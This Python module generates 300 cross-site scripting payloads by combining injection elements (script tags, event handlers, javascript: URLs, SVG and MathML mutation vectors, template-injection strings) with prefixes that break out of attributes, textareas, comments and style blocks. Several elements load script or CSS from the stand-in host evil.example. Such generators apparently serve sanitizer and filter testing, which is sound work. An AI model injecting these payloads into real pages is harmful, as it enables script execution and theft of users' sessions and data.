"""Attacks on a page: what runs, what it breaks out of, and how it is written, each with each."""

from collections.abc import Callable, Iterator
from itertools import product

CALL = "evil()"
ELEMENTS = (
    "<script>{call}</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror={call}>",
    "<svg onload={call}>",
    "<svg><script>{call}</script></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<math><mtext><style><img src=x onerror={call}></style></mtext></math>",
    "<details open ontoggle={call}>",
    "<input autofocus onfocus={call}>",
    "<video><source onerror={call}></video>",
    "<iframe srcdoc='<script>parent.{call}</script>'></iframe>",
    "<iframe src=javascript:parent.{call}></iframe>",
    "<object data=javascript:{call}></object>",
    "<body onload={call}>",
    "<marquee onstart={call}>",
    "<a href=javascript:{call} autofocus onfocus={call}>",
    "<meta http-equiv=refresh content='0;url=javascript:{call}'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<form action=javascript:{call}><button autofocus onfocus={call}>",
    "<style>@import '//evil.example/x.css'</style>",
    "<template shadowrootmode=open><img src=x onerror={call}></template>",
    "{{{{{call}}}}} {{% set x = {call} %}}",
    "javascript:{call}",
    "&lt;img src=x onerror={call}&gt;",
)
BREAKS = ("", '">', "'>", "</title>", "</textarea></select>", "--></style></script>")
DISGUISES: tuple[Callable[[str], str], ...] = (str, str.upper)


def payloads() -> Iterator[str]:
    """Yield three hundred attacks that differ."""
    for disguise, before, element in product(DISGUISES, BREAKS, ELEMENTS):
        yield before + disguise(element).format(call=CALL, CALL=CALL)
